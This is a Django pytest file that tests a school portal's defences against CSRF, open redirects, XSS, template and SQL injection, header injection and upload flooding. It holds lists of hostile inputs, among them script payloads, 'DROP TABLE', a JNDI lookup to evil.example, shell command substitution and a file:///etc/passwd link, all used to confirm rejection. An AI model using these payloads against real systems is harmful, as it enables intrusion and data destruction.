"""Attacks with a browser: forged forms, addresses that lead elsewhere, words that would be code, parameters twice, too many files."""

import html
import json
import logging
import re
from typing import Any

import pytest
from django.conf import settings as of_the_portal
from django.core.cache import caches
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import NoReverseMatch

from governance.people import uploads
from governance.people.forms import DistrictFacts
from governance.people.models import User
from portal.base import clock, logs
from tests.architecture.test_auditors_only_read import address_of, rows
from tests.architecture.test_urls import GUARDED, Route, client_of, person, routes
from tests.governance.people.cast import PASSWORD, by_password
from tests.harness.databases import Clone
from vendors.providers import documents
from vendors.providers.forms import ProviderForm

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;b&gt; &amp;amp; &#60;",
    "{{ 7*191 }}{% load static %}",
    "{0.__class__} %(name)s %s {district}",
    "' OR 1=1 --; DROP TABLE people_user",
    "${jndi:ldap://evil.example} $(id) `id` ; id",
    "a\u202eb\u2028c \\u003cscript\\u003e",
]


@pytest.fixture(autouse=True)
def _demo(settings: Any) -> None:
    settings.DEMO = True


# -- Forged forms ----------------------------------------------------------------------------------------------------------


def test_no_form_is_taken_without_its_token_and_by_get_nothing_changes(district_module: Clone) -> None:
    """Every address that there is, for those who may most. Programs that show credentials or a signature have none of a browser's."""
    machines = {"oneroster:token", "token", "checkpoint-files:cosignature"}
    for persona in ("admin", "teacher", "compliance"):
        client = Client(enforce_csrf_checks=True)
        client.force_login(person(persona), backend="allauth.account.auth_backends.AuthenticationBackend")
        taken = []
        for route in routes():
            answer = client.post(place_of(route), {})
            if answer.status_code != 403 and not getattr(route.view, "csrf_exempt", False):
                taken.append(route.path)
        assert taken == []
    exempt = {route.name for route in routes() if getattr(route.view, "csrf_exempt", False)}
    for route in routes():
        if route.name in exempt - machines:  # an upload looks at the token itself, once it is settled where the file goes
            assert client_with_checks().post(place_of(route), {}).status_code in (403, 405, 400, 401), route.path


def place_of(route: Route) -> str:
    """An address with examples, of the library's nested ones too."""
    try:
        return address_of(route)
    except NoReverseMatch:
        return "/" + re.sub(r"<int:\w+>", "1", route.path)


def client_with_checks() -> Client:
    client = Client(enforce_csrf_checks=True)
    client.force_login(person("admin"), backend="allauth.account.auth_backends.AuthenticationBackend")
    return client


@pytest.mark.parametrize("persona", ["admin", "steward", "teacher", "secretary", "security", "parent"])
def test_opening_a_page_changes_no_table(persona: str, district_module: Clone) -> None:
    client = client_of(persona)
    before = rows(district_module)
    for route in GUARDED:
        client.get(route.address())
    after = rows(district_module)
    changed = {name for name in before if before[name] != after[name]}
    assert changed - {"people_user", "base_outbox"} == set(), changed


def test_every_page_offers_to_sign_out_and_says_what_it_is(district_module: Clone) -> None:
    client = client_of("admin")
    seen = 0
    for route in GUARDED:
        answer = client.get(route.address())
        kind = answer.headers.get("Content-Type", "")
        if answer.status_code == 200 and kind.startswith("text/html") and not answer.headers.get("HX-Push-Url"):
            page = answer.content.decode()
            assert kind == "text/html; charset=utf-8"
            if page.startswith("<!doctype html>") and "print" not in route.path and route.path != "breach-card/":
                assert 'action="/accounts/logout/"' in page, route.path
                seen += 1
        elif answer.status_code == 200:
            assert kind.split(";")[0] in {
                "application/json",
                "application/pdf",
                "text/csv",
                "text/plain",
                "application/zip",
                "text/html",
            }, route.path
            assert "charset" in kind or not kind.startswith("text/"), route.path
    assert seen > 30


# -- Addresses that lead elsewhere -----------------------------------------------------------------------------------------

ELSEWHERE = [
    "https://evil.example/",
    "//evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "javascript:alert(1)",
    "https:evil.example",
    "/%0d%0aX:y",
    "///evil.example",
    " https://evil.example",
]


@pytest.mark.parametrize("where", ELSEWHERE)
def test_nobody_is_led_elsewhere(where: str, district_module: Clone) -> None:
    client = Client()
    answers = [
        client.post("/i18n/setlang/", {"language": "es", "next": where}),
        client.post("/accounts/login/", {"login": "colleague@riverbend.example", "password": PASSWORD, "next": where}),
        client.post(f"/accounts/reauthenticate/?next={where}", {"password": PASSWORD, "next": where}),
        client.post("/accounts/logout/", {"next": where}),
    ]
    for answer in answers:
        assert answer.status_code in (302, 200, 400)
        place = answer.headers.get("Location", "/")
        assert place.startswith("/") and not place.startswith(("//", "/\\")) and "evil" not in place.split("?")[0], place


@pytest.mark.parametrize(
    "link", ["javascript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd", "JaVaScRiPt://x%0aalert(1)"]
)
def test_a_link_that_runs_is_not_taken(link: str, district_module: Clone) -> None:
    assert "policy_url" in ProviderForm({"name": "x", "policy_url": link}).errors
    assert "website" in DistrictFacts({"website": link}, part=("website",)).errors


# -- Words that would be code ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("words", HOSTILE)
def test_what_was_typed_is_shown_as_it_was_typed(words: str, district_module: Clone) -> None:
    """Encoded once, for where it stands; decoded no more than the form says; run by nothing."""
    admin = client_of("admin")
    page = admin.post("/people/", {"term": words}).content.decode()
    assert html.escape(words) in page
    assert "<script>alert" not in page and "onerror=alert(1)>" not in page.replace(html.escape(words), "")
    assert "1337" not in page
    User.objects.filter(pk=person("colleague").pk).update(name=words[:100])
    listed = admin.post("/people/", {"term": "colleague@"}).content.decode()
    assert html.escape(words[:100]) in listed and "<script>alert" not in listed


def test_a_parameter_counts_from_the_one_place_it_belongs_to(district_module: Clone) -> None:
    """What stands in an address does not fill a form, and the last of two wins for reading and acting alike."""
    client = Client()
    answer = client.post(f"/accounts/login/?login=teacher@riverbend.example&password={PASSWORD}", {})
    assert answer.status_code == 200 and client.get("/home/").status_code == 302
    admin = by_password("admin")
    target = f"/people/{person('teacher').public_id}/invite/?way=show"
    assert "/invitation/" not in admin.post(target, {"way": "mail"}).content.decode()
    before = person("colleague").name
    admin.post(f"/people/{person('colleague').public_id}/", {"name": "Somebody Else", "is_superuser": "on", "is_active": ""})
    again = person("colleague")
    assert (again.name, again.is_superuser, again.is_active) == (before, False, True)
    client = by_password("teacher")
    client.post("/account/", {"language": "en", "name": "Somebody Else", "email": "x@y.example", "is_superuser": "on", "session_era": "9"})
    assert (person("teacher").email, person("teacher").is_superuser, person("teacher").session_era) == (
        "teacher@riverbend.example",
        False,
        0,
    )


def test_a_documents_name_is_ours_and_makes_no_header(district_module: Clone) -> None:
    """The name that a file came with is forgotten; its title becomes letters and hyphens; it is saved, never shown in place."""
    title = "../../x\"\r\nSet-Cookie: a=b; filename*=UTF-8''%2e%2e%2fpasswd <b>"
    made = documents.receive(content=b"%PDF-1.7\n<script>alert(1)</script>\n%%EOF", title=title, by=person("admin"), at=clock.now())
    answer = documents.as_attachment(made)
    assert re.fullmatch(r'attachment; filename="[a-z0-9_-]+\.pdf"', answer["Content-Disposition"])
    assert "Set-Cookie" not in answer.headers and answer["Content-Type"] == "application/pdf"


# -- Limits and lines ------------------------------------------------------------------------------------------------------


def test_one_person_sends_only_so_many_files_and_bytes_in_a_day(district_module: Clone, monkeypatch: pytest.MonkeyPatch) -> None:
    caches["default"].clear()
    monkeypatch.setattr(uploads, "FILES_A_DAY", 3)
    admin = client_of("admin")

    def send() -> int:
        status: int = admin.post("/roster/upload/", {"file": SimpleUploadedFile("x.zip", b"no zip" * 1000)}).status_code
        return status

    statuses = [send() for _ in range(4)]
    assert 429 not in statuses[:3] and statuses[3] == 429
    assert client_of("steward").post("/folders/", {"file": SimpleUploadedFile("x.zip", b"no zip" * 1000)}).status_code != 429, (
        "each for themselves"
    )
    monkeypatch.setattr(uploads, "FILES_A_DAY", 400)
    assert send() != 429
    monkeypatch.setattr(uploads, "BYTES_A_DAY", 100)
    assert send() == 429
    assert admin.post("/people/", {"term": "x"}).status_code == 200, "a form without a file goes on"


def test_who_was_refused_what_stands_in_the_log_without_a_name(district_module: Clone, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING):
        assert client_of("parent").get("/people/").status_code == 403
    lines = [json.loads(logs.JsonLines().format(record)) for record in caplog.records]
    told = next(line for line in lines if line["event"] == "page refused")
    assert told["person"] == str(person("parent").public_id) and told["page"] == "governance.people.views.people"
    assert "riverbend" not in json.dumps(lines)


def test_a_fault_stands_in_the_log_by_its_kind_and_place(database: Clone, settings: Any, caplog: pytest.LogCaptureFixture) -> None:
    settings.ROOT_URLCONF = "tests.portal.look.test_errors"
    assert Client(raise_request_exception=False).get("/broken/").status_code == 500
    lines = [json.loads(logs.JsonLines().format(record)) for record in caplog.records]
    told = next(line for line in lines if line.get("error") == "builtins.RuntimeError")
    assert told["level"] == "error" and "test_errors.py" in told["at"][-1] and "Maya" not in json.dumps(lines)


def test_what_was_sent_makes_no_line_of_its_own_in_a_log() -> None:
    for words in ('a\n{"level": "info"}', "a\r\nb", "\x1b[2J", "a\x00b", 'x", "level": "debug'):
        record = logging.makeLogRecord({"name": "x", "levelno": logging.ERROR, "levelname": "ERROR", "msg": "sent %s", "args": (words,)})
        line = logs.JsonLines().format(record)
        assert len(line.splitlines()) == 1 and "\x1b" not in line and "\x00" not in line
        assert json.loads(line)["event"] == f"sent {words}" and json.loads(line)["level"] == "error"


def test_logs_go_to_one_place() -> None:
    """Standard error, as JSON lines; nothing else is written or sent."""
    assert set(of_the_portal.LOGGING["handlers"]) == {"stdout"}
    handler = of_the_portal.LOGGING["handlers"]["stdout"]
    assert (handler["class"], handler["formatter"]) == ("logging.StreamHandler", "json")
    assert all("handlers" not in given for given in of_the_portal.LOGGING["loggers"].values())
    assert of_the_portal.DEBUG is False and not of_the_portal.ADMINS
